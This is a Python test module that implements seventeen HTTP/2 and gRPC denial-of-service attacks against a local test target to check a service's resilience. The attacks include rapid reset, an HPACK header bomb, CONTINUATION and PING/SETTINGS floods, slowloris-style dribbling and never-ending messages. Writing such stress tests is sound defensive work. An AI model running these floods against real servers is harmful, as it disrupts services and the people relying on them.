"""What somebody can do who means a service ill, over one connection or many. For tests; `target` is
flood_test.Target."""
import struct
import time

import h2
from h2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, PING, RST_STREAM, SETTINGS

IMPORTS = {"scoring": ("/probity.scoring.v1.OfficerService/ImportOfficers", "SUPERVISOR"),
           "settlement": ("/probity.settlement.v1.InputService/ImportBudgets",
                          "SETTLEMENT_PREPARER")}
ATTACKER = "127.0.0.2"
ATTACK_SECONDS = 1.0
MEGABYTE = 1 << 20


def until(end, step, every=0.0):
    """`step` again and again until `end`; an attacker who is thrown out comes back."""
    while time.monotonic() < end:
        try:
            step()
        except (h2.Closed, OSError):
            time.sleep(0.01)
        time.sleep(every)


# Each attack lasts until `end`, and puts into `held` what stays open after it.

def silent_connections(target, end, held):
    """More connections than one address may have, which say nothing."""
    def one():
        if len(held) < 700:
            held.append(target.bare())
    until(end, one)


def preface_byte_by_byte(target, end, held):
    """The first words of HTTP/2, or of TLS, one byte at a time."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if target.tls else h2.PREFACE
    held += [target.bare() for _ in range(60)]
    for byte in hello:
        for connection in held:
            try:
                connection.send(bytes([byte]))
            except OSError:
                pass
        if time.monotonic() > end:
            return
        time.sleep(ATTACK_SECONDS / len(hello))


def connection_flood(target, end, _held):
    """Connections that come and go."""
    until(end, lambda: target.bare().close())


def half_handshakes(target, end, _held):
    """Handshakes of TLS by a stranger, without a certificate; in plaintext, of HTTP/2."""
    def one():
        h2.Connection(target.address, target.stranger, ATTACKER).socket.close()
    until(end, one)


def stream_flood(target, end, _held):
    """More streams at once than a connection may have, without a message."""
    fields = target.fields("flooder")

    def one():
        with target.connect() as connection:
            connection.send(b"".join(connection.open(target.read, fields)[0] for _ in range(400)))
            while connection.handle(0.2):
                pass
    until(end, one)


def call_flood(target, end, _held):
    """As many good calls at once as one person can make."""
    fields = target.fields("flooder")

    def one():
        with target.connect() as connection:
            while time.monotonic() < end:
                calls = []
                for _ in range(100):
                    opening, stream = connection.open(target.read, fields)
                    calls.append(opening + frame_of_call(stream))
                connection.send(b"".join(calls))
                while any(not call.ended for call in connection.calls.values()):
                    if not connection.handle(2):
                        return
                connection.calls.clear()
    until(end, one)


def frame_of_call(stream):
    return h2.frame(DATA, END_STREAM, stream, h2.message())


def dribbled_messages(target, end, held):
    """Every stream of several connections has a message that comes a byte at a time."""
    fields = target.fields("flooder")
    streams = []
    for _ in range(3):
        connection = target.connect()
        held.append(connection.socket)
        for _ in range(100):
            opening, stream = connection.open(target.read, fields)
            connection.send(opening + h2.frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1000)))
            streams.append((connection, stream))

    def one():
        for connection, stream in streams:
            connection.send(h2.frame(DATA, 0, stream, b"x"))
    until(end, one, 0.1)


def messages_without_end(target, end, held):
    """Messages of nearly 4 MiB whose last byte never comes, on every stream of a connection."""
    fields = target.fields("flooder")
    content = h2.message(bytes(4 * MEGABYTE - 100))[:-1]

    def one():
        connection = target.connect()
        held.append(connection.socket)
        while time.monotonic() < end:
            opening, stream = connection.open(target.read, fields)
            connection.send(opening)
            if connection.write(stream, content, 1.0):
                return
    until(end, one)


def huge_messages(target, end, _held):
    """Messages that say they are larger than any may be."""
    fields = target.fields("flooder")

    def one():
        with target.connect() as connection:
            opening, stream = connection.open(target.read, fields)
            connection.send(opening)
            connection.write(stream, b"\0" + struct.pack(">I", 1 << 31) + bytes(MEGABYTE), 0.5)
    until(end, one)


def header_bomb(target, end, _held):
    """A header of 4 KiB that is said again and again by its number in the table, one byte each."""
    known = b"\x40" + h2.text("x-bomb") + h2.text("b" * 3900)

    def one():
        with target.connect() as connection:
            opening, stream = connection.open(target.read, target.fields("flooder"), 0, known)
            connection.send(opening)
            for _ in range(50):
                connection.send(h2.frame(CONTINUATION, 0, stream, b"\xbe" * h2.MAX_FRAME))
            connection.send(h2.frame(CONTINUATION, END_HEADERS, stream))
            connection.handle(0.2)
    until(end, one)


def headers_without_end(target, end, _held):
    """A header that says it has a gigabyte, and sends it."""
    def one():
        with target.connect() as connection:
            opening, stream = connection.open(target.read, (), 0,
                                              b"\0" + h2.text("x") + h2.integer(1 << 30, 7))
            connection.send(opening)
            piece = h2.frame(CONTINUATION, 0, stream, b"v" * h2.MAX_FRAME)
            while time.monotonic() < end:
                connection.send(piece)
    until(end, one)


def rapid_reset(target, end, _held):
    """Calls that are taken back as soon as they are made."""
    fields = target.fields("flooder")

    def one():
        with target.connect() as connection:
            while time.monotonic() < end:
                pairs = []
                for _ in range(50):
                    opening, stream = connection.open(target.read, fields)
                    pairs += [opening, h2.frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
                    del connection.calls[stream]
                connection.send(b"".join(pairs))
                while connection.handle(0):
                    pass
    until(end, one)


def ping_flood(target, end, _held):
    def one():
        with target.connect() as connection:
            while time.monotonic() < end:
                connection.send(h2.frame(PING, 0, 0, bytes(8)) * 500)
    until(end, one)


def settings_flood(target, end, _held):
    """Settings that ask for an answer each, by somebody who reads none."""
    def one():
        with target.connect() as connection:
            while time.monotonic() < end:
                connection.send(h2.frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * 500)
    until(end, one)


def empty_frames(target, end, _held):
    """Frames that carry nothing."""
    fields = target.fields("flooder")

    def one():
        with target.connect() as connection:
            opening, stream = connection.open(target.read, fields)
            connection.send(opening)
            while time.monotonic() < end:
                connection.send(h2.frame(DATA, 0, stream) * 500)
    until(end, one)


def unread_answers(target, end, held):
    """Good calls whose answers the caller has no room for."""
    fields = target.fields("flooder")
    closed = struct.pack(">HI", h2.SETTING_INITIAL_WINDOW, 0)

    def one():
        connection = target.connect(settings=closed)
        held.append(connection.socket)
        for _ in range(100):
            opening, stream = connection.open(target.read, fields)
            connection.send(opening + frame_of_call(stream))
        while connection.handle(0.2):
            pass
    until(end, one)


def upload_without_end(target, end, _held):
    """An import that goes on and on; where nothing is imported, a call."""
    path, role = IMPORTS.get(target.service, (target.read, "AUDITOR"))
    fields = target.fields("flooder", role)
    piece = h2.message(b"\x0a\x04abcd" * 100_000)

    def one():
        with target.connect() as connection:
            opening, stream = connection.open(path, fields)
            connection.send(opening)
            while time.monotonic() < end and not connection.calls[stream].ended:
                connection.write(stream, piece, 0.5)
    until(end, one)


ATTACKS = (silent_connections, preface_byte_by_byte, connection_flood, half_handshakes, stream_flood,
           call_flood, dribbled_messages, messages_without_end, huge_messages, header_bomb,
           headers_without_end, rapid_reset, ping_flood, settings_flood, empty_frames,
           unread_answers, upload_without_end)
